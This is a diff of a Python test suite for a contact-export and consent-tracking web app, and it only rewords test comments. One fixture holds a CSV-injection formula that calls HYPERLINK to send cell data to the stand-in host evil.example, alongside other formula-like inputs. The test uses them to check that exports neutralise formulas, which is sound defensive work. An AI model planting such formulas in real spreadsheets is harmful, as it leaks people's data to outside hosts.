@@ -131,7 +131,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
 def test_no_cell_of_a_plain_list_is_a_formula(page_worker: Worker) -> None:
-    # Given somebody who types what a spreadsheet would run
+    # Given a participant who types a formula (CSV injection)
     page_worker.answered_by(
         "contact_me", **{**SAFE, "name_to_use": FORMULA, "contact_notes": "-2+3 ,=1+1\t=2"}
     )
@@ -179,7 +179,7 @@ def test_a_password_of_ones_own_is_a_choice_of_its_own(page_worker: Worker) -> N
     page_worker.get("/desk/contacts")
     suggested = standing(page_worker, "suggested")
     answer = page_worker.export(file_format="shown", password=PASSWORD)
-    # Then nobody has to guess which password the file would have
+    # Then it is clear which password the file would have
     page_worker._arrive(answer)
     assert error_words(page_worker) == [
         "Empty this, or choose “Spreadsheet with a password of my own”"
@@ -206,7 +206,7 @@ def test_words_that_did_not_come_along_lock_no_file(page_worker: Worker) -> None
         suggested="",
         code=page_worker.code(),
     )
-    # Then no file is made with a password that nobody saw
+    # Then no file is made with a password that was never shown
     page_worker._arrive(answer)
     assert error_words(page_worker) == [
         "The password on this page is a new one. Write it down, and try again"
@@ -237,7 +237,7 @@ def test_a_plain_list_needs_no_password(page_worker: Worker) -> None:
 def test_what_is_wrong_is_said_and_the_rest_is_kept(
     page_worker: Worker, changes: dict[str, str], said: str
 ) -> None:
-    # Given somebody to export
+    # Given a participant to export
     page_worker.answered_by("contact_me", **SAFE)
     filled = {"words": "in spring", **changes}
     page_worker.get("/desk/contacts")
@@ -301,7 +301,7 @@ def test_a_purpose_that_nobody_agreed_to_gives_no_file(worker: Worker) -> None:
     shared = worker.answered_by("share", **SAFE)
     page = worker.get("/desk/contacts")
     offered = {e.get("value") for e in page.all("input") if e.get("name") == "who"}
-    # (what nobody agreed to is no choice)
+    # (a purpose without a consent is no choice)
     assert offered == {f"{DEMO_CALL}:contact_me", f"{DEMO_CALL}:share"}
     # When they take it back before the button is pressed
     worker.changes_mind(shared, "share")
@@ -329,7 +329,7 @@ def test_a_code_gives_one_list(worker: Worker) -> None:
 
 
 def test_the_cookie_is_new_after_the_second_code(worker: Worker) -> None:
-    # Given a cookie that somebody copied
+    # Given a cookie that an attacker copied
     worker.answered_by("contact_me", **SAFE)
     copied = worker.client.get_cookie("hearth-desk")
     assert copied is not None
@@ -344,7 +344,7 @@ def test_the_cookie_is_new_after_the_second_code(worker: Worker) -> None:
 
 
 def test_guessing_codes_meets_a_limit(make_page_app: MakeApp, page_founded: Founded) -> None:
-    # Given somebody who found a desk open
+    # Given an attacker who found a desk open
     worker = Worker(make_page_app(LIMIT_FACTOR="1"), page_founded)
     worker.sign_in(steps=-1)
     worker.answered_by("contact_me", **SAFE)
@@ -373,7 +373,7 @@ def test_an_export_is_written_down(worker: Worker) -> None:
     assert ", by Ana" in page.text
     assert "You may ask me to come to a meeting" in page.text
     assert "People who had given permission 2" in page.text
-    # And that nobody took it back, and that this alone does not make the list safe
+    # And that no consent was withdrawn, and that this alone does not make the list safe
     assert (
         "Nobody in this list has taken back their permission. But a way that was safe then"
         in page.text
@@ -434,7 +434,7 @@ def test_whose_line_must_not_be_used_any_more(worker: Worker) -> None:
 
 
 def test_crossing_out_is_ticked_off_list_by_list(worker: Worker) -> None:
-    # Given a list with somebody who took their permission back
+    # Given a list with a participant who took their permission back
     one, other = (worker.answered_by("contact_me", **SAFE) for _ in range(2))
     worker.export()
     worker.changes_mind(one, "contact_me")
@@ -453,7 +453,7 @@ def test_crossing_out_is_ticked_off_list_by_list(worker: Worker) -> None:
     assert "The record says that you crossed these people out." in worker.page.text
     assert "First, cross these people out" not in worker.get("/desk/contacts").text
     assert worker.tags()[0] == "crossed out in a list"
-    # And whoever changes their mind later comes up again, alone
+    # And a participant who withdraws later comes up again, alone
     worker.changes_mind(other, "contact_me")
     open_list(worker)
     assert notices(worker) == {"Cross these out in your file": {other.reference}}
@@ -498,7 +498,7 @@ def test_another_reason_needs_words_and_is_shown_to_all(worker: Worker) -> None:
 def test_a_reason_that_the_permission_does_not_have_is_refused(
     page_worker: Worker, why: str
 ) -> None:
-    # Given people who said that we may ask about what they wrote, and somebody who sends another reason with it
+    # Given people who said that we may ask about what they wrote, and a coordinator who sends another reason with it
     page_worker.answered_by("contact_me", **SAFE)
     token = next(
         e.get("value")
@@ -553,7 +553,7 @@ def test_a_button_pressed_twice_makes_one_list(worker: Worker) -> None:
 
 
 def test_a_press_that_came_twice_gives_nothing_else_away(worker: Worker) -> None:
-    # Given a list, and somebody who copied cookie, form and code before it was made
+    # Given a list, and an attacker who copied cookie, form and code before it was made (replay)
     worker.answered_by("contact_me", **SAFE)
     worker.get("/desk/contacts")
     page, cookie = worker.page, worker.client.get_cookie("hearth-desk")
@@ -574,7 +574,7 @@ def test_a_press_that_came_twice_gives_nothing_else_away(worker: Worker) -> None
 def test_nothing_personal_stays_behind(
     worker: Worker, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
 ) -> None:
-    # Given somebody whose every word can be recognised
+    # Given a participant whose every word can be recognised
     caplog.set_level("DEBUG")
     mark = "canary"
     someone = worker.answered_by(
@@ -604,7 +604,7 @@ def test_nothing_personal_stays_behind(
 
 
 def test_one_list_done_leads_to_the_next(worker: Worker) -> None:
-    # Given two lists with somebody who took their permission back
+    # Given two lists with a participant who took their permission back
     someone = worker.answered_by("contact_me", **SAFE)
     worker.export(code=worker.code())
     worker.export(code=worker.code(1))
@@ -617,6 +617,6 @@ def test_one_list_done_leads_to_the_next(worker: Worker) -> None:
     worker.follow("Open the next list with people to cross out")
     assert worker.path != first
     assert "Cross these out in your file" in worker.page.text
-    # And no address says so where somebody is to be crossed out
+    # And no address says so where a participant is to be crossed out
     page = worker.get(f"{worker.path}?done=crossed-out")
     assert "The record says that you crossed" not in page.text
